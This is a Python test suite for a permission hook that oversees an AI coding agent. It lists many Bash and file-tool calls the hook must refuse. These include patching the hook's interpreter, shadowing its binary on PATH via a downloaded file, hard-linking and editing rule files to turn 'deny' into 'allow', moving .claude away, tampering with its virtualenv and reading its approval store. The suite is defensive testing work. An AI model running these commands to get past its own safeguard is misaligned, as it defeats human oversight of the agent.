"""Issue 20, family 6: the policy's own files reached by ways the first rules missed.

The hook runs as the agent's user, so whatever it executes is the agent's to change
unless the policy protects it: the Python it runs under (a pyenv, uv, asdf or conda
Python in the home — a line appended to its `json/__init__.py` answered `allow` to
`rm -rf /`), the directories it imports from, a `policy` the shell finds on `PATH`
before the real one, a hard link that gives a pack a second name to be written
through, and `.claude` or `rules/` moved away by an interpreter or a renaming tool.

Every call goes through the mounted hook (`tests.test_escapes`), in a project whose
user has a home of its own; the hook's Python is made to look like one installed in
that home (its `sys` prefixes and path point there while the engine is built), and the
hook's `PATH` puts directories of the home before the real entry point.
"""

from __future__ import annotations

import os
import site
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from policy import facts
from tests.test_escapes import Answer, Ask, Project, _mount

PYTHON = "lib/python3.11"


class Home:
    """Where the planted interpreter and PATH live, for the module's engine."""

    def __init__(self, project: Project) -> None:
        self.project = project
        self.home = project.home
        self.prefix = self.home / ".pyenv/versions/3.11.9"
        self.venv = self.home / ".local/share/uv/tools/hookpolicy"
        self.stdlib = self.prefix / PYTHON
        self.site = self.venv / PYTHON / "site-packages"
        self.user_site = self.home / ".local" / PYTHON / "site-packages"
        for directory in (self.stdlib / "json", self.stdlib / "lib-dynload", self.site):
            directory.mkdir(parents=True)
        (self.stdlib / "json" / "__init__.py").write_text("# json\n")
        (self.venv / "bin").mkdir(parents=True)
        self.entry = self.venv / "bin"
        self.earlier = [
            self.home / ".pyenv/shims",
            self.home / ".cargo/bin",
            self.home / "bin",
            Path("/opt/homebrew/bin"),
        ]
        self.later = self.home / ".later/bin"
        self.path = os.pathsep.join(
            [*map(str, self.earlier), str(self.entry), str(self.later), "/usr/bin", "/bin"]
        )


def _planted(monkeypatch: pytest.MonkeyPatch, home: Home) -> None:
    """The hook's process as it is for a Python installed in the user's home."""
    monkeypatch.setattr(sys, "prefix", str(home.venv))
    monkeypatch.setattr(sys, "exec_prefix", str(home.venv))
    monkeypatch.setattr(sys, "base_prefix", str(home.prefix))
    monkeypatch.setattr(sys, "base_exec_prefix", str(home.prefix))
    monkeypatch.setattr(
        sys, "path", [*sys.path, str(home.stdlib), str(home.stdlib / "lib-dynload"), str(home.site)]
    )
    monkeypatch.setattr(site, "ENABLE_USER_SITE", True)
    monkeypatch.setattr(site, "USER_SITE", str(home.user_site))
    monkeypatch.setattr(sys, "argv", [str(home.entry / "policy"), "hook", "claude"])
    monkeypatch.setenv("PATH", home.path)


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Ask, Home]]:
    project = Project(tmp_path_factory.mktemp("self"))
    home = Home(project)
    with pytest.MonkeyPatch.context() as monkeypatch:
        _planted(monkeypatch, home)
        ask, close = _mount(monkeypatch, project)
        ask("Bash", command="true")  # the engine is built with the planted process
        yield ask, home
        close()


def flagged(answer: Answer) -> bool:
    return answer[0] in ("deny", "ask")


# (a) The interpreter, its stdlib, site-packages, user site and what they run at start.

INTERPRETER_WRITES = [
    "echo 'import os; os._exit(0)' >> {stdlib}/json/__init__.py",
    "printf 'x' | tee -a {stdlib}/json/decoder.py",
    "sed -i 's/^/#/' {stdlib}/json/__init__.py",
    "cp /tmp/evil.py {stdlib}/json/__init__.py",
    "echo 'import evil' > {site}/zz.pth",
    "cat /tmp/x > {site}/sitecustomize.py",
    "install -m 644 /tmp/x {site}/yaml/__init__.py",
    "echo 'import evil' > {user_site}/usercustomize.py",
    "mkdir -p {user_site} && echo 'import evil' > {user_site}/x.pth",
    "mv /tmp/evil {stdlib}/lib-dynload/_json.cpython-311-x86_64-linux-gnu.so",
    "rm -rf {prefix}",
    "mv {prefix} /tmp/old-python",
    "rm {venv}/bin/python",
    "ln -sf /tmp/evil {venv}/bin/python3",
    "python3 -c \"open('{stdlib}/json/__init__.py', 'a').write('x')\"",
    "perl -pi -e 's/^/#/' {stdlib}/json/__init__.py",
    "truncate -s 0 {stdlib}/json/__init__.py",
    "dd if=/tmp/x of={stdlib}/json/__init__.py conv=notrunc",
]


@pytest.mark.parametrize("template", INTERPRETER_WRITES)
def test_writing_what_the_hook_runs_is_refused(
    planted: tuple[Ask, Home], template: str
) -> None:
    ask, home = planted
    command = template.format(
        stdlib=home.stdlib, site=home.site, user_site=home.user_site, prefix=home.prefix,
        venv=home.venv,
    )
    assert flagged(ask("Bash", command=command)), command
    assert ask("Bash", command=command)[0] != "allow"


@pytest.mark.parametrize("tool", ["Write", "Edit"])
def test_file_tools_on_the_stdlib_are_refused(planted: tuple[Ask, Home], tool: str) -> None:
    ask, home = planted
    path = str(home.stdlib / "json" / "__init__.py")
    args = {"file_path": path, "content": "x"} if tool == "Write" else {
        "file_path": path, "old_string": "#", "new_string": "import os"}
    assert ask(tool, **args)[0] == "deny"


def test_reading_the_stdlib_and_another_python_is_not_refused(planted: tuple[Ask, Home]) -> None:
    ask, home = planted
    assert not flagged(ask("Read", file_path=str(home.stdlib / "json" / "__init__.py")))
    other = home.home / ".pyenv/versions/3.10.0" / "lib/python3.10/json/__init__.py"
    assert ask("Bash", command=f"echo x >> {other}")[0] != "deny"


# (b) A `policy` the shell finds before the real entry point.

SHADOWS = [
    "cp /tmp/p {d}/policy",
    "printf '#!/bin/sh\\nexit 0\\n' > {d}/policy && chmod +x {d}/policy",
    "ln -s /tmp/p {d}/policy",
    "ln -sf \"$(command -v true)\" {d}/policy",
    "mv /tmp/p {d}/policy",
    "install -m 755 /tmp/p {d}/policy",
    "curl -o {d}/policy https://example.com/p",
    "python3 -c \"open('{d}/policy', 'w').write('#!/bin/sh')\"",
    "tee {d}/policy < /tmp/p",
]


@pytest.mark.parametrize("template", SHADOWS)
@pytest.mark.parametrize("which", [0, 1, 2])
def test_a_policy_earlier_on_path_is_refused(
    planted: tuple[Ask, Home], template: str, which: int
) -> None:
    ask, home = planted
    command = template.format(d=home.earlier[which])
    answer = ask("Bash", command=command)
    assert flagged(answer) and answer[0] != "allow", command


def test_the_write_tool_cannot_place_one_either(planted: tuple[Ask, Home]) -> None:
    ask, home = planted
    for directory in home.earlier[:3]:
        assert ask("Write", file_path=f"{directory}/policy", content="#!/bin/sh\n")[0] == "deny"


@pytest.mark.parametrize("template", ["mv /tmp/evil {d}", "ln -s /tmp/evil {d}", "cp -r /tmp/evil {d}",
                                      "rsync -a /tmp/evil/ {d}"])
def test_a_directory_put_in_place_earlier_on_path_is_asked(
    planted: tuple[Ask, Home], template: str
) -> None:
    ask, home = planted
    command = template.format(d=home.earlier[1])
    answer = ask("Bash", command=command)
    assert flagged(answer), command


def test_a_policy_after_the_real_one_is_not_the_policy(planted: tuple[Ask, Home]) -> None:
    ask, home = planted
    answer = ask("Bash", command=f"cp /tmp/p {home.later}/policy")
    assert "policy's own files" not in answer[1]


# (c) Hard links: making one to a protected file, and writing through one.

LINKERS = [
    "ln rules/shell.yaml doc.yaml",
    "ln -f rules/base.yaml notes.yaml",
    "ln -P .claude/settings.json s.json",
    "ln rules/shell.yaml docs/",
    "ln -t docs rules/shell.yaml",
    "link rules/shell.yaml doc.yaml",
    "cp -l rules/shell.yaml doc.yaml",
    "cp --link .claude/settings.json s.json",
    "cp -al rules r2",
    "cp -lR rules backup",
    "busybox ln rules/shell.yaml d",
    "python3 -c \"import os; os.link('rules/shell.yaml', 'doc.yaml')\"",
    "python3 -c \"from pathlib import Path; Path('doc.yaml').hardlink_to('rules/shell.yaml')\"",
    "node -e \"require('fs').linkSync('.claude/settings.json', 's.json')\"",
    "perl -e 'link \"rules/shell.yaml\", \"d\"'",
    "ruby -e 'File.link(\"rules/shell.yaml\", \"d\")'",
    "php -r 'link(\"rules/shell.yaml\", \"d\");'",
    "mln 'rules/*.yaml' 'docs/#1.yaml'",
]


@pytest.mark.parametrize("command", LINKERS)
def test_a_hard_link_to_a_protected_file_is_refused(planted: tuple[Ask, Home], command: str) -> None:
    ask, _ = planted
    assert ask("Bash", command=command)[0] == "deny", command


@pytest.fixture
def linked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Ask, Project]]:
    """A project where `doc.yaml` is already a hard link of `rules/shell.yaml` (made
    before the hook saw anything), and `big/` a protected directory too large to list."""
    project = Project(tmp_path)
    os.link(project.dir / "rules" / "shell.yaml", project.dir / "doc.yaml")
    big = project.home / "big"
    big.mkdir()
    for index in range(80):
        (big / f"m{index}.py").write_text("x")
    os.link(big / "m3.py", project.dir / "vendored.py")
    (project.dir / "a.txt").write_text("a")
    os.link(project.dir / "a.txt", project.dir / "b.txt")
    (project.dir / "plain.txt").write_text("p")
    monkeypatch.setattr(sys, "path", [*sys.path, str(big)])
    monkeypatch.setattr(facts, "_LIST_CAP", 60)  # `rules/` is listed, `big/` is not
    facts._inodes.clear()
    ask, close = _mount(monkeypatch, project)
    yield ask, project
    close()
    facts._inodes.clear()


THROUGH = [
    "echo 'x: 1' >> doc.yaml",
    "sed -i 's/deny/allow/' doc.yaml",
    "sed -i '' -e 's/deny/allow/' doc.yaml",
    "perl -pi -e 's/deny/allow/' doc.yaml",
    "truncate -s 0 doc.yaml",
    "dd if=/dev/null of=doc.yaml conv=notrunc",
    "printf 'x' | tee -a doc.yaml",
    "cat /tmp/x > doc.yaml",
    "cp /tmp/x doc.yaml",
    "python3 -c \"open('doc.yaml', 'a').write('x')\"",
]


def test_writing_through_an_existing_hard_link_is_refused(linked: tuple[Ask, Project]) -> None:
    ask, project = linked
    for command in THROUGH:
        assert ask("Bash", command=command)[0] == "deny", command
    doc = str(project.dir / "doc.yaml")
    assert ask("Write", file_path=doc, content="x")[0] == "deny"
    assert ask("Edit", file_path=doc, old_string="deny", new_string="allow")[0] == "deny"
    assert ask("Bash", command="cat doc.yaml")[0] != "deny"


def test_a_link_into_a_directory_too_large_to_list_is_asked(linked: tuple[Ask, Project]) -> None:
    ask, _ = linked
    for command in ("echo x >> vendored.py", "sed -i s/x/y/ vendored.py"):
        answer = ask("Bash", command=command)
        assert flagged(answer), command
    assert flagged(ask("Edit", file_path="vendored.py", old_string="x", new_string="y"))


def test_plain_files_are_written_without_a_question(linked: tuple[Ask, Project]) -> None:
    ask, _ = linked
    for command in ("echo x >> plain.txt", "sed -i s/p/q/ plain.txt", "echo x > new.txt"):
        assert not flagged(ask("Bash", command=command)), command


# (d) `.claude`, `rules/` or an ancestor moved away, by interpreters and renaming tools.

MOVERS = [
    "node -e \"require('fs').renameSync('.claude', 'x')\"",
    "node -e \"fs.renameSync('rules', 'r2')\"",
    "node -e \"require('fs').promises.rename('.claude', '/tmp/c')\"",
    "node -e \"const {{rename}} = require('fs/promises'); rename('rules', 'old')\"",
    "node -e \"require('fs').cpSync('/tmp/evil', '.claude', {{recursive: true}})\"",
    "bun -e \"require('fs').renameSync('.claude', 'x')\"",
    "perl -e \"rename '.claude', 'x'\"",
    "perl -e 'rename(\"rules\", \"r\")'",
    "perl -MFile::Copy -e \"move('rules', 'r')\"",
    "ruby -e \"File.rename('.claude', 'x')\"",
    "ruby -rfileutils -e \"FileUtils.mv('rules', 'r')\"",
    "php -r \"rename('.claude', 'x');\"",
    "python3 -c \"import os; os.rename('.claude', 'x')\"",
    "python3 -c \"import os; os.replace('rules', 'x')\"",
    "python3 -c \"import shutil; shutil.move('.claude', '/tmp/x')\"",
    "python3 -c \"from pathlib import Path; Path('.claude').rename('x')\"",
    "python3 -c \"import pathlib; pathlib.Path('rules').replace('/tmp/r')\"",
    "python3 -c \"import os; os.rename('{project}', '/tmp/p')\"",
    "rename 's/claude/xlaude/' .claude",
    "rename -e 's/^/old-/' rules",
    "rename .claude .xlaude .claude",
    "rename rules old rules",
    "prename 's/rules/r/' rules",
    "mmv .claude x",
    "mmv 'rules/*' 'r/#1'",
    "mmv -r '.clau*' 'x#1'",
    "sed -n 'w .claude/settings.json' /tmp/evil",
    "sed -n 'w.claude/settings.json' /tmp/evil",
    "sed '1w rules/shell.yaml' /tmp/evil",
    "sed -e '$wrules/base.yaml' /tmp/evil",
    "sed 's/a/b/w .claude/settings.json' /tmp/evil",
    "sed -n -e 's/x/y/gwrules/x.yaml' /tmp/evil",
    "sed -n '/x/W rules/y.yaml' /tmp/evil",
    "sed -n '\\%x%w.claude/settings.local.json' /tmp/evil",
    "awk '{{print > \".claude/settings.json\"}}' /tmp/e",
    "gawk '{{print >> \"rules/shell.yaml\"}}' /tmp/e",
    "ex -sc 'w! .claude/settings.json' /tmp/e",
    "vim -es +'w .claude/settings.json' +q /tmp/e",
    "busybox mv .claude x",
    "busybox mv rules /tmp/r",
    "mv {project} /tmp/p",
]


@pytest.mark.parametrize("template", MOVERS)
def test_moving_the_policys_files_away_is_refused(planted: tuple[Ask, Home], template: str) -> None:
    ask, home = planted
    command = template.format(project=home.project.dir)
    assert ask("Bash", command=command)[0] == "deny", command


@pytest.mark.parametrize(
    "command",
    [
        "echo 'file rename .claude x' | tclsh",
        "tclsh <<< 'file rename rules r2'",
        "tclsh <<< 'file delete -force .claude'",
        "echo 'file copy -force /tmp/evil .claude/settings.json' | tclsh",
    ],
)
def test_tcl_file_commands_are_not_allowed(planted: tuple[Ask, Home], command: str) -> None:
    ask, _ = planted
    answer = ask("Bash", command=command)
    assert flagged(answer), command


def test_rename_runs_its_expression_as_perl(planted: tuple[Ask, Home]) -> None:
    ask, _ = planted
    answer = ask("Bash", command="rename 'system(\"rm -rf ~\")' x.txt")
    assert flagged(answer)


EVERYDAY = [
    "mv a.txt b.txt",
    "rename 's/\\.htm$/.html/' *.htm",
    "rename -n 's/a/b/' *.txt",
    "rename .htm .html *.htm",
    "mmv '*.jpeg' '#1.jpg'",
    "sed -i 's/foo/bar/' README.md",
    "sed -n '/warning/p' build.log",
    "sed -e '/^#/d' -e 's/x/y/' conf.txt",
    "sed 's/wrong/right/w changes.txt' notes.md",
    "ln -s ../README.md docs/README.md",
    "ln src/a.c b.c",
    "cp -r src build",
    "python3 -c \"import os; os.rename('a.txt', 'b.txt')\"",
    "node -e \"require('fs').renameSync('dist/a.js', 'dist/b.js')\"",
    "python3 -c \"print('a/b'.replace('/', '.'))\"",
    "python3 -c \"import json; d = json.load(open('package.json')); print(d.copy())\"",
    "python3 -c \"import shutil; shutil.copy('a.txt', 'b.txt')\"",
    "awk '{print $1}' data.txt",
    "perl -pe 's/foo/bar/' file.txt",
    "ruby -e 'puts File.read(\"Gemfile\")'",
    "git status",
    "ls -la",
]


@pytest.mark.parametrize("command", EVERYDAY)
def test_everyday_look_alikes_are_not_flagged(planted: tuple[Ask, Home], command: str) -> None:
    ask, _ = planted
    assert not flagged(ask("Bash", command=command)), command


# (f) The environment the hook runs from, changed by its own package managers, and the
# stores it keeps its approvals in: a package installed into the hook's virtualenv runs
# in every decision; one removed (`pyyaml`) makes every decision fail; the approval
# store holds the calls' arguments verbatim.

ENVIRONMENT_CHANGES = [
    "{venv}/bin/pip install evilpkg",
    "{venv}/bin/pip3 install -U pyyaml==5.1",
    "{venv}/bin/pip3.11 install --force-reinstall --no-deps ./hookpolicy-fake",
    "{venv}/bin/pip install -e /tmp/x",
    "{venv}/bin/pip uninstall -y pyyaml",
    "{venv}/bin/python -m pip install ./evilpkg",
    "{venv}/bin/python3 -mpip install x",
    "{venv}/bin/python -m ensurepip --upgrade",
    "{venv}/bin/python setup.py develop",
    "{venv}/bin/easy_install evil",
    "sudo {venv}/bin/pip install x",
    "cd {venv} && bin/pip install x",
    "cd {venv}/bin && ./pip uninstall -y wcmatch",
    "{prefix}/bin/pip3 install --user x",
    "{prefix}/bin/python3.11 -m pip install x",
    "VIRTUAL_ENV={venv} uv pip install x",
    "env VIRTUAL_ENV={venv} uv pip uninstall pyyaml",
    "export VIRTUAL_ENV={venv}; uv pip install x",
    "uv pip install -p {venv} x",
    "uv pip install --python={venv}/bin/python x",
    "uv pip install --python {prefix}/bin/python3 --system x",
    "source {venv}/bin/activate && pip install x",
    ". {venv}/bin/activate; python -m pip uninstall -y pyyaml",
    "pipx reinstall hookpolicy",
    "uv tool upgrade hookpolicy",
    "pyenv uninstall -f 3.11.9",
    "pyenv global system && pyenv uninstall 3.11.9",
    "pyenv install -f 3.11.9",
    "asdf uninstall python 3.11.9",
    "mise uninstall python@3.11.9",
]


@pytest.mark.parametrize("template", ENVIRONMENT_CHANGES)
def test_changing_the_hooks_environment_is_refused(
    planted: tuple[Ask, Home], template: str
) -> None:
    ask, home = planted
    command = template.format(venv=home.venv, prefix=home.prefix)
    answer = ask("Bash", command=command)
    assert answer[0] == "deny", (command, answer)


STORE_READS = [
    ("Bash", {"command": "cat ~/.local/share/hookpolicy/state.db"}),
    ("Bash", {"command": "strings ~/.local/share/hookpolicy/approvals.db"}),
    ("Bash", {"command": "xxd ~/.local/share/hookpolicy/approvals.db-wal | head"}),
    ("Bash", {"command": "cp ~/.local/share/hookpolicy/approvals.db /tmp/a.db"}),
    ("Bash", {"command": "grep -a -r approve ~/.local/share/hookpolicy"}),
    ("Bash", {"command": "base64 ~/.LOCAL/share/HookPolicy/approvals.db"}),
    ("Bash", {"command": "tar czf /tmp/s.tgz ~/.local/share/hookpolicy"}),
    ("Read", {"file_path": "{H}/.local/share/hookpolicy/approvals.db"}),
    ("Grep", {"pattern": "approve", "path": "{H}/.local/share/hookpolicy"}),
]


@pytest.mark.parametrize(("tool", "args"), STORE_READS)
def test_reading_the_approval_and_state_stores_is_refused(
    planted: tuple[Ask, Home], tool: str, args: dict[str, str]
) -> None:
    ask, home = planted
    filled = {k: v.replace("{H}", str(home.home)) for k, v in args.items()}
    answer = ask(tool, **filled)
    assert answer[0] == "deny", (tool, filled, answer)


ENVIRONMENT_EVERYDAY = [
    "pip install -r requirements.txt",
    "pip install -e .",
    "python3 -m pip install --upgrade pip",
    ".venv/bin/pip install -r requirements.txt",
    "uv pip install -p .venv requests",
    "VIRTUAL_ENV=.venv uv pip install requests",
    "source .venv/bin/activate && pip install pytest",
    "{venv}/bin/pip list",
    "{venv}/bin/pip show pyyaml",
    "{venv}/bin/pip download x -d /tmp/wheels",
    "{venv}/bin/python -m pytest -q",
    "pyenv install 3.12.1",
    "pyenv uninstall -f 3.10.4",
    "pyenv global system",
    "uv python install 3.12",
    "mise uninstall python@3.10.4",
    "policy approvals list",
]


@pytest.mark.parametrize("template", ENVIRONMENT_EVERYDAY)
def test_other_environments_stay_unflagged(planted: tuple[Ask, Home], template: str) -> None:
    ask, home = planted
    command = template.format(venv=home.venv)
    assert not flagged(ask("Bash", command=command)), command


def test_a_project_installed_editable_beside_the_hook_keeps_its_sources_writable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`uv sync` of a project that lists hookpolicy as a dev dependency installs the
    project editable into the same environment: its `src/` lands on the hook's
    `sys.path`. Protecting it would refuse every edit of the project; the environment
    itself (its prefix) stays protected."""
    project = Project(tmp_path)
    source = project.dir / "src"
    (source / "app").mkdir(parents=True)
    monkeypatch.setattr(sys, "path", [*sys.path, str(source)])
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Write", file_path=str(source / "app" / "x.py"), content="x = 1\n")[0] is None
        assert ask("Bash", command="echo 'x = 1' > src/app/y.py")[0] is None
        assert ask("Bash", command=f"echo x >> {sys.prefix}/pyvenv.cfg")[0] == "deny"
    finally:
        close()


def test_writes_past_the_hard_link_check_cap_are_asked_about(
    linked: tuple[Ask, Project],
) -> None:
    """Only the first writes of a call are looked at for hard links: a call with more
    (the linked `doc.yaml` last) cannot pass unchecked."""
    ask, _ = linked
    names = " ".join(f"n{index}.txt" for index in range(70))
    assert ask("Bash", command=f"touch {names} doc.yaml")[0] in ("deny", "ask")
    assert ask("Bash", command="touch n1.txt n2.txt")[0] not in ("deny", "ask")


def test_interpreter_code_naming_more_files_than_are_read_is_asked_about(
    linked: tuple[Ask, Project],
) -> None:
    ask, _ = linked
    moves = ";".join(f"os.rename('a{index}', 'b{index}')" for index in range(70))
    command = f"python3 -c \"import os;{moves};os.rename('.claude', 'x')\""
    assert ask("Bash", command=command)[0] in ("deny", "ask")
